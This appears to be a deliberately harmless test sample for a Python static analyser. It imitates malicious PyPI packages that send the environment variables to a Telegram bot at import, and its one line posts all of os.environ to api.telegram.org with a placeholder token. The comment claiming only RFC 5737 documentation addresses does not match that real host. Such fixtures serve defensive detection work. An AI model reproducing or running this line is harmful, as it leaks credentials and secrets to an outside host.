# INERT test sample for pyward's static analysis: never run it. Modelled on environment-variable exfiltration to a Telegram bot at import.
# Documented: https://checkmarx.com/blog/ (2023 Telegram-exfiltrating PyPI packages)
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
import os, json, requests
requests.post('https://api.telegram.org/bot000:inert/sendMessage', data={'chat_id': '1', 'text': json.dumps(dict(os.environ))})
